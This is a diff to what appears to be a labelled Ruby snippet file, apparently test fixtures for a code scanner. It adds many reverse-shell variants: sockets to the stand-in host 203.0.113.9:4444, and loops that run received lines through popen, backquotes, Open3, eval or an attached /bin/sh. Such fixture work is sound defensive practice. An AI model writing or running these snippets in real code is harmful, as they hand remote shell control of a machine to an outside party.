@@ -1,4 +1,6 @@
 %% head
+require "socket"
+require "open3"
 require 'net/http'
 require 'json'
 require 'open-uri'
@@ -78,6 +80,43 @@ exec("ruby", "-e", c)
 `#{c}`
 %% run: opened command
 IO.popen("sh", "w") { |p| p.write(c) }
+%% link: new
+s = TCPSocket.new("203.0.113.9", 4444)
+%% link: open
+s = TCPSocket.open("203.0.113.9", 4444)
+%% link: client
+s = Socket.tcp("203.0.113.9", 4444)
+%% link: address in one text
+host, port = "203.0.113.9:4444".split(":")
+s = TCPSocket.new(host, port.to_i)
+%% link: tried again
+begin
+  s = TCPSocket.new("203.0.113.9", 4444)
+rescue
+  sleep 30
+  retry
+end
+%% link: address of the environment
+s = TCPSocket.new(ENV.fetch("H", "203.0.113.9"), 4444)
+%% obey: opened command
+while (line = s.gets)
+  s.puts IO.popen(line, &:read)
+end
+%% obey: backquotes
+while l = s.gets
+  s.print `#{l}`
+end
+%% obey: library
+loop { c = s.gets; out, _ = Open3.capture2e(c); s.write(out) }
+%% obey: shell at the connection
+exec "/bin/sh -i <&#{s.fileno} >&#{s.fileno} 2>&1"
+%% obey: shell with the connection
+Process.wait spawn("/bin/sh", in: s, out: s, err: s)
+%% obey: evaluated
+s.each_line { |l| s.puts eval(l) }
+%% obey: reopened
+$stdin.reopen(s); $stdout.reopen(s); $stderr.reopen(s)
+exec "/bin/sh"
 %% ordinary
 d = 'three of four are done'
 %% shown
